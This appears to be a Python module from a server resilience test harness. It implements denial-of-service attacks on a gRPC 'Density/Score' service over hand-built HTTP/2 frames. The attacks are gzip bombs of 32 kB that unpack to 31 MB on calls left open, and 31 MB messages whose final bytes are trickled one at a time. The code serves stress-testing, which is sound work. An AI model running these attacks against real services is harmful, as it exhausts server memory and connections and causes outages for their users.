"""Attacks by calls of gRPC."""

import gzip
import socket
import struct
import time
from collections.abc import Iterable, Iterator
from contextlib import contextmanager, suppress

from attacks import PATIENCE, Answers, Attack
from frames import frame, http2, literal
from server import Address, Server

SCORE = "/density.v1.Density/Score"


def call(path: str, *headers: tuple[str, str]) -> bytes:
    """The head of a call of gRPC."""
    all_ = [(":method", "POST"), (":scheme", "http"), (":authority", "t"), (":path", path)]
    all_ += [("content-type", "application/grpc"), ("te", "trailers"), *headers]
    return b"".join(literal(*header) for header in all_)


def framed(message: bytes, is_packed: bool = False, length: int | None = None) -> bytes:
    """A message of gRPC."""
    return struct.pack(">BI", is_packed, len(message) if length is None else length) + message


class Rpc:
    """A connection of gRPC, written as the attacks want it and read as far as they must."""

    def __init__(self, address: Address, window: int = (1 << 31) - 1) -> None:
        # Answers have as much room as they like, and so has the connection.
        self.stream = http2(address, (4, window))
        self.stream.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.stream.sendall(frame(8, 0, 0, struct.pack(">I", (1 << 31) - 1 - 65535)))
        self.left = 65535
        self.initial = 65535
        self.windows: dict[int, int] = {}
        self.statuses: dict[int, str] = {}
        self.buffer = b""

    def open(self, number: int, *headers: tuple[str, str], path: str = SCORE) -> None:
        """Begins a call."""
        self.windows[number] = self.initial
        self.stream.sendall(frame(1, 4, number, call(path, *headers)))

    def send(self, number: int, bytes_: bytes, is_last: bool, deadline: float) -> None:
        """Sends bytes of a call, as the server takes them."""
        rest = memoryview(bytes_)
        while rest and number not in self.statuses and time.monotonic() < deadline:
            length = min(len(rest), 16384, self.left, self.windows[number])
            if length <= 0:
                self.read(0.2)
                continue
            piece, rest = bytes(rest[:length]), rest[length:]
            self.stream.sendall(frame(0, is_last and not rest, number, piece))
            self.left -= length
            self.windows[number] -= length
            if self.left < 16384:
                self.read(0.0)

    def read(self, seconds: float) -> None:
        """Takes in what the server says within a time."""
        self.stream.settimeout(max(seconds, 0.001))
        try:
            got = self.stream.recv(1 << 16)
        except TimeoutError:
            return
        finally:
            self.stream.settimeout(PATIENCE)
        if not got:
            raise ConnectionResetError
        self.buffer += got
        while len(self.buffer) >= 9:
            length, kind, flags = int.from_bytes(self.buffer[:3]), self.buffer[3], self.buffer[4]
            number = int.from_bytes(self.buffer[5:9]) & 0x7FFFFFFF
            if len(self.buffer) < 9 + length:
                break
            payload, self.buffer = self.buffer[9 : 9 + length], self.buffer[9 + length :]
            self._note(kind, flags, number, payload)

    def _note(self, kind: int, flags: int, number: int, payload: bytes) -> None:
        if kind == 8 and number == 0:
            self.left += int.from_bytes(payload)
        elif kind == 8 and number in self.windows:
            self.windows[number] += int.from_bytes(payload)
        elif kind == 4 and not flags & 1:
            for place in range(0, len(payload), 6):
                key, value = struct.unpack(">HI", payload[place : place + 6])
                if key == 4:
                    self.windows = {n: left + value - self.initial for n, left in self.windows.items()}
                    self.initial = value
            self.stream.sendall(frame(4, 1, 0))
        elif kind == 6 and not flags & 1:
            self.stream.sendall(frame(6, 1, 0, payload))
        elif (kind == 1 and flags & 1) or kind == 3:
            self.statuses.setdefault(number, "ended" if kind == 1 else "reset")

    def wait(self, numbers: Iterable[int], deadline: float) -> Answers:
        """What became of calls until then."""
        numbers = list(numbers)
        try:
            while time.monotonic() < deadline and not all(number in self.statuses for number in numbers):
                self.read(0.2)
        except OSError:
            return Answers({"cut": len(numbers)})
        return Answers(self.statuses.get(number, "still open") for number in numbers)

    def close(self) -> None:
        """Ends the connection."""
        self.stream.close()


@contextmanager
def rpcs(address: Address, count: int) -> Iterator[list[Rpc]]:
    """So many connections."""
    all_ = [Rpc(address) for _ in range(count)]
    try:
        yield all_
    finally:
        for own in all_:
            own.close()


def varint(number: int) -> bytes:
    """A number as protobuf has it."""
    bytes_ = bytearray()
    while number > 127:
        bytes_.append(number & 127 | 128)
        number >>= 7
    return bytes([*bytes_, number])


def packed_messages(connections: int, each: int) -> Attack:
    """32 kB in gzip that unpack to 31 MB each, in calls that never end: what is decoded waits for that."""
    # A field that no message has.
    length = 31_000_000
    head, rest = b"\xfa\x07" + varint(length), bytes(length)
    message = gzip.compress(head + rest)

    def run(server: Server) -> Answers:
        numbers = range(1, 2 * each, 2)
        answers = Answers()
        with rpcs(server.grpc, connections) as all_:
            for own in all_:
                for number in numbers:
                    own.open(number, ("grpc-encoding", "gzip"))
                    own.send(number, framed(message, True), False, time.monotonic() + PATIENCE)
            end = time.monotonic() + PATIENCE
            for own in all_:
                answers += own.wait(numbers, end)
        return answers

    return run


def trickling_messages(connections: int, each: int) -> Attack:
    """Messages of 31 MB, of which nearly all comes soon and the rest byte by byte."""

    def run(server: Server) -> Answers:
        numbers = range(1, 2 * each, 2)
        answers = Answers()
        with rpcs(server.grpc, connections) as all_:
            end = time.monotonic() + PATIENCE
            for own in all_:
                with suppress(OSError):
                    for number in numbers:
                        own.open(number)
                        own.send(number, framed(bytes(30_900_000), length=31_000_000), False, end)
            while time.monotonic() < end and any(len(own.statuses) < each for own in all_):
                for own in all_:
                    try:
                        for number in set(numbers) - set(own.statuses):
                            own.send(number, b"x", False, end)
                        own.read(0.0)
                    except OSError:
                        own.statuses = dict.fromkeys(numbers, "cut")
                time.sleep(0.5)
            for own in all_:
                answers += Answers(own.statuses.get(number, "still open") for number in numbers)
        return answers

    return run
